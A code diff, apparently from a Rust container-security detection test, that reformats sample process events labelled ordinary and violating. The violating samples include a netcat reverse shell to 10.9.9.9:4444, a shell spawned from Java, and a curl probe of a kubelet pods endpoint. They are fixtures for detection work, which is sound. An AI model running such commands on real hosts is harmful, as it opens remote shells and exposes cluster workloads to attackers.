@@ -57,15 +57,27 @@ fn main() {
         );
     }
     let ordinary = [
-        ("/opt/java/bin/java", "-Xmx512m -jar app.jar", "/usr/bin/tini"),
-        ("/usr/bin/python3", "worker.py --queue jobs", "/usr/bin/tini"),
+        (
+            "/opt/java/bin/java",
+            "-Xmx512m -jar app.jar",
+            "/usr/bin/tini",
+        ),
+        (
+            "/usr/bin/python3",
+            "worker.py --queue jobs",
+            "/usr/bin/tini",
+        ),
         ("/usr/sbin/nginx", "-g daemon off;", "/usr/bin/tini"),
         ("/usr/bin/sleep", "30", "/usr/bin/bash"),
     ];
     let violating = [
         ("/bin/sh", "-c id", "/opt/java/bin/java"),
         ("/usr/bin/apt-get", "install -y curl", "/usr/bin/bash"),
-        ("/usr/bin/curl", "-k https://10.0.0.5:10250/pods", "/usr/bin/bash"),
+        (
+            "/usr/bin/curl",
+            "-k https://10.0.0.5:10250/pods",
+            "/usr/bin/bash",
+        ),
         ("/usr/bin/nc", "-e /bin/sh 10.9.9.9 4444", "/usr/bin/bash"),
     ];
     let events: Vec<ProcessIndicator> = (0..EVENTS)
